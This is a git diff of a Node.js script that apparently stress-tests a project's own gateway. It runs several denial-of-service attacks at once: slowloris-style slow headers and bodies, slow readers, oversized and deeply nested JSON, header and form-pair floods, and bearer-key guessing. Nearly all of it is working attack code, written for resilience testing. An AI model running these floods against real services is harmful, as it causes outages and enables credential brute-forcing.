@@ -1,28 +1,34 @@
 import { connect, type Socket } from 'node:net'
-import { constants, setPriority } from 'node:os'
 import { setTimeout as pause } from 'node:timers/promises'
 import { Pool } from 'undici'
+import type { Attack, Strengths } from './attacks.ts'
 
 /**
- * A process that attacks the gateway at an address, as hard as it is told, until it is ended. It says when it is in
- * full swing. It gives way to the gateway: attackers have machines of their own.
+ * A process that attacks the gateway at an address in several ways at once, each as hard as it is told, until it is ended.
+ * It says when it is in full swing.
  */
-setPriority(constants.priority.PRIORITY_LOW)
-
 const MEGABYTE = 1_000_000
 const BYTES_PER_SECOND = 125 * MEGABYTE
-const [attack = '', origin = '', strengthText = '', key = ''] = process.argv.slice(2)
-const strength = Number(strengthText)
+const [strengthsText = '{}', origin = '', key = ''] = process.argv.slice(2)
+const strengths = Object.entries(JSON.parse(strengthsText) as Partial<Strengths>)
 const { hostname, port } = new URL(origin)
 const WEBHOOK = 'POST /v1/webhooks/signed HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\n'
+/** Of the right form, and wrong. */
+const SIGNATURE = '0'.repeat(64)
 
-/** Says that the attack is in full swing. */
+let unannounced = strengths.length
+
+/** Says that the attacks are in full swing, once each of them is. */
 function announce(): void {
-  process.stdout.write('attacking\n')
+  if (--unannounced === 0) process.stdout.write('attacking\n')
 }
 
 /** Holds so many connections, and opens another for each that is closed. What is sent first is given. */
-function hold(begin: string, onOpen: (socket: Socket) => void = () => undefined): void {
+function hold(
+  strength: number,
+  begin: string,
+  onOpen: (socket: Socket) => void = (socket) => socket.resume()
+): void {
   let opened = 0
   const open = () => {
     const socket = connect(Number(port), hostname)
@@ -33,14 +39,14 @@ function hold(begin: string, onOpen: (socket: Socket) => void = () => undefined)
     })
     socket.on('error', () => undefined)
     socket.on('close', () => setTimeout(open, 100))
-    socket.resume()
   }
   for (let n = 0; n < strength; n++) setTimeout(open, n / 5)
 }
 
 /** Sends one more byte a second on every connection. */
-function drip(begin: string, byte: string): void {
-  hold(begin, (socket) => {
+function drip(strength: number, begin: string, byte: string): void {
+  hold(strength, begin, (socket) => {
+    socket.resume()
     const timer = setInterval(() => socket.write(byte), 1_000)
     socket.on('close', () => {
       clearInterval(timer)
@@ -48,8 +54,24 @@ function drip(begin: string, byte: string): void {
   })
 }
 
+/** Asks for the largest page again and again, and takes nothing of it. */
+function readNothing(strength: number): void {
+  const ask = 'GET /docs/static/swagger-ui-bundle.js HTTP/1.1\r\nHost: gateway\r\n\r\n'
+  hold(strength, ask.repeat(10), (socket) => socket.pause())
+}
+
+/** Sends all but the end of a body of 8 MB on every connection. */
+function holdBodies(strength: number): void {
+  const body = Buffer.alloc(8 * MEGABYTE, ' ')
+  const head = `${WEBHOOK}X-Signature: ${SIGNATURE}\r\nContent-Length: ${body.length + 1}\r\n\r\n`
+  hold(strength, head, (socket) => {
+    socket.resume()
+    socket.write(body)
+  })
+}
+
 /** Sends 200 MB after the other on so many connections, declared or in chunks, as far as it is let: all that 1 Gbit/s can carry. */
-function sendLargeBodies(): void {
+function sendLargeBodies(strength: number): void {
   const everyMs = (MEGABYTE * strength * 1_000) / BYTES_PER_SECOND
   const chunk = Buffer.concat([
     Buffer.from(`${MEGABYTE.toString(16)}\r\n`),
@@ -77,21 +99,23 @@ function sendLargeBodies(): void {
   announce()
 }
 
+/** A request of a flood; a function makes it anew each time. */
+interface Request {
+  readonly path: string
+  readonly headers?: Readonly<Record<string, string>>
+  readonly body?: string | Buffer
+}
+
 /** Sends `strength` requests a second, whatever becomes of those before. */
-async function ask(path: string, headers: () => Record<string, string>, body?: string): Promise<void> {
+async function flood(strength: number, next: (n: number) => Request): Promise<void> {
   const pool = new Pool(origin, { connections: 50 })
   const began = performance.now()
   announce()
   for (let sent = 0; ;) {
     while (sent < ((performance.now() - began) / 1_000) * strength) {
-      sent++
+      const { path, headers = {}, body } = next(sent++)
       void pool
-        .request({
-          path,
-          method: body === undefined ? 'GET' : 'POST',
-          headers: headers(),
-          ...(body === undefined ? {} : { body })
-        })
+        .request({ path, method: body === undefined ? 'GET' : 'POST', headers, body: body ?? null })
         .then((answer) => answer.body.dump())
         .catch(() => undefined)
     }
@@ -99,19 +123,53 @@ async function ask(path: string, headers: () => Record<string, string>, body?: s
   }
 }
 
-const json = () => ({ 'content-type': 'application/json', authorization: `Bearer ${key}` })
-const ATTACKS: Readonly<Record<string, () => unknown>> = {
-  idle: () => {
-    hold('')
+const json = { 'content-type': 'application/json' }
+const form = { 'content-type': 'application/x-www-form-urlencoded', 'sec-fetch-site': 'same-origin' }
+const deep = '['.repeat(MEGABYTE)
+const invalid = `{"a":${'1,'.repeat(5_000)}`
+const large = Buffer.from(`[${'{"lead_id":1},'.repeat(570_000)}1]`)
+const pairs = 'a&'.repeat(500_000)
+const UNREAD = ['/nope', '/docs', '/metrics', '/problems/x', '/ops/sign-in', '/v1/webhooks/nosuch']
+const INVALID = ['/nope', '/ops/sign-in', '/v1/webhooks/signed', '/vicidial/non_agent_api.php']
+const ATTACKS: Readonly<Record<Attack, (strength: number) => unknown>> = {
+  idle: (strength) => {
+    hold(strength, '')
   },
-  slow_headers: () => {
-    drip('GET /v1/fields HTTP/1.1\r\nHost: gateway\r\nX-A: ', 'a')
+  slow_headers: (strength) => {
+    drip(strength, 'GET /v1/fields HTTP/1.1\r\nHost: gateway\r\nX-A: ', 'a')
   },
-  slow_bodies: () => {
-    drip(`${WEBHOOK}Content-Length: 10000\r\n\r\n`, ' ')
+  slow_bodies: (strength) => {
+    drip(strength, `${WEBHOOK}X-Signature: ${SIGNATURE}\r\nContent-Length: 10000\r\n\r\n`, ' ')
   },
+  slow_readers: readNothing,
+  held_bodies: holdBodies,
   large_bodies: sendLargeBodies,
-  deep_json: () => ask('/v1/leads/batch-update', json, '['.repeat(MEGABYTE)),
-  key_guessing: () => ask('/v1/fields', () => ({ authorization: `Bearer guess-${Math.random()}` }))
+  deep_json: (strength) =>
+    flood(strength, () => ({
+      path: '/v1/leads/batch-update',
+      headers: { ...json, authorization: `Bearer ${key}` },
+      body: deep
+    })),
+  key_guessing: (strength) =>
+    flood(strength, () => ({
+      path: '/v1/fields',
+      headers: { authorization: `Bearer guess-${Math.random()}` }
+    })),
+  long_signatures: (strength) =>
+    flood(strength, () => ({
+      path: '/v1/webhooks/signed',
+      headers: { ...json, 'x-signature': ','.repeat(15_000) },
+      body: '{}'
+    })),
+  unread_bodies: (strength) =>
+    flood(strength, (n) => ({ path: UNREAD[n % UNREAD.length] ?? '', headers: json, body: large })),
+  invalid_json: (strength) =>
+    flood(strength, (n) => ({
+      path: INVALID[n % INVALID.length] ?? '',
+      headers: { ...json, 'x-signature': SIGNATURE, 'sec-fetch-site': 'same-origin' },
+      body: invalid
+    })),
+  form_pairs: (strength) =>
+    flood(strength, () => ({ path: '/vicidial/non_agent_api.php', headers: form, body: pairs }))
 }
-await ATTACKS[attack]?.()
+for (const [attack, strength] of strengths) ATTACKS[attack as Attack](strength)
